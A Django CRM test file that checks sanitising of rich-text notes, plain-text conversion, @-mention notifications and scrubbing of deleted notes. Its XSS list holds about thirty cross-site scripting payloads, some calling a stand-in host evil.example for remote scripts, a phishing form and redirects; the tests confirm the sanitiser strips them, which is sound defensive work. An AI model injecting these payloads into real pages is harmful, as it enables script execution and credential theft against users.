"""Notes as rich text: nothing that acts survives, plain text stays what it was, mentions reach whom they may."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.test import Client
from django.urls import reverse

from crm import rich
from crm.errors import Refused
from crm.models import Note, Notification, User
from crm.notices import notice_of
from crm.services.notes import add_note, delete_note, restore_note
from pipeline.models import Stage
from tests.factories import make_deal

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<span data-user='1' onmouseover=alert(1)>x</span>",
    "<span data-user='1\" onmouseover=\"alert(1)'>x</span>",
    "<p data-act='/notes/1/deletion/' class='btn' hx-get='/x' id='toasts'>x</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
]
ALLOWED = {"a": {"href", "target", "rel"}, "span": {"class"}}


class Elements(HTMLParser):
    """Fails on whatever a note may not hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in rich.TAGS, tag
        names = dict(attrs)
        assert names.keys() <= ALLOWED.get(tag, set()), self.get_starttag_text()
        assert (names.get("href") or "https://").startswith(("http://", "https://", "mailto:", "tel:")), names


@pytest.mark.parametrize("markup", XSS)
def test_nothing_that_acts_survives(markup: str) -> None:
    for written in (rich.clean(markup), rich.from_text(markup), markup):
        Elements().feed(rich.shown(written))


@pytest.mark.parametrize(
    ("markup", "kept"),
    [
        ("<p>a <b>b</b> <i>c</i></p><ul><li>d</li></ul>", "<p>a <b>b</b> <i>c</i></p><ul><li>d</li></ul>"),
        ("<h1>Big</h1><table><tr><td>cell", "Bigcell"),
        (
            '<a href="https://x.example/?a=1&b=2">x</a>',
            '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
        ),
        ("<b>open", "<b>open</b>"),
        ("2 < 3 & 4", "2 &lt; 3 &amp; 4"),
    ],
)
def test_the_small_safe_part_stays(markup: str, kept: str) -> None:
    assert rich.clean(markup) == kept


def test_plain_text_keeps_its_lines_and_letters() -> None:
    text = "Любят <b>чай</b> & тишину\nhttps://x.example/a?b=1, and more\n\nBye"
    html = rich.from_text(text)
    assert rich.to_text(html) == text.replace("\n\n", "\n")
    assert html.count("<p>") == 2
    assert 'href="https://x.example/a?b=1"' in html
    assert rich.link_addresses('<p>see https://x.example. <a href="https://y.example">https://y.example</a></p>').count("<a ") == 2


@pytest.mark.django_db
def test_a_mention_is_told_to_whoever_sees_the_record_and_the_others_are_named(
    anna: User, clara: User, denis: User, stages: list[Stage], client: Client
) -> None:
    deal = make_deal(by=anna)
    gone = 10**9
    html = (
        f'<p>Ask <span data-user="{clara.pk}">@The boss</span>, <span data-user="{denis.pk}">@Denis</span>, '
        f'<span data-user="{anna.pk}">@me</span> and <span data-user="{gone}">@Nobody</span></p>'
    )
    client.force_login(anna)
    answer = client.post(reverse("record_notes", args=["deal", deal.pk]), {"html": html})
    assert answer.status_code == 200
    assert "Denis Dunn" in answer.context["told"].text
    assert "Clara Chen" not in answer.context["told"].text
    note = Note.objects.get()
    assert note.text == "Ask @Clara Chen, @Denis Dunn, @Anna Arlova and @Nobody"
    [told] = Notification.objects.filter(kind="mention")
    assert (told.user, told.record, told.record_id, told.words["by"]) == (clara, "deal", deal.pk, "Anna Arlova")
    client.force_login(clara)
    assert '<span class="mention">@Clara Chen</span>' in client.get(reverse("deal", args=[deal.pk])).content.decode()


@pytest.mark.django_db
def test_empty_markup_is_no_note(anna: User, stages: list[Stage], client: Client) -> None:
    deal = make_deal(by=anna)
    client.force_login(anna)
    for html in ("", "<p><br></p>", "<script>alert(1)</script>", "  "):
        assert client.post(reverse("record_notes", args=["deal", deal.pk]), {"html": html}).status_code == 422
    with pytest.raises(Refused):
        add_note(record="deal", record_id=deal.pk, html="<p>" + "x" * 10_001 + "</p>", by=anna)
    assert not Note.objects.exists()


@pytest.mark.django_db
def test_colleagues_are_suggested_by_any_word_of_their_name(anna: User, boris: User, denis: User, client: Client) -> None:
    client.force_login(anna)

    def names(text: str) -> list[str]:
        return [person["name"] for person in client.get(reverse("mentions"), {"text": text}).json()["people"]]

    assert names("bel") == ["Boris Belov"]
    assert names("ANNA") == ["Anna Arlova"]
    assert names("xyz") == []
    User.objects.filter(pk=boris.pk).update(is_active=False)
    assert names("bel") == []


def test_a_deleted_note_is_no_longer_quoted_to_whom_it_mentioned(anna: User, clara: User, stages: list[Stage]) -> None:
    deal = make_deal(by=anna)
    html = f'<p>Secret price for <span class="mention" data-user="{clara.pk}">@Clara</span></p>'
    note = add_note(record="deal", record_id=deal.pk, html=html, by=anna)
    assert "Secret price" in Notification.objects.get().words["text"]
    seal = delete_note(note_id=note.pk, by=anna)
    told = Notification.objects.get()
    assert told.words["text"] == ""
    assert notice_of("mention").words(told.words) == "Anna Arlova mentioned you in a note that has been deleted"
    restore_note(seal=seal, by=anna)
    assert "Secret price" in Notification.objects.get().words["text"]
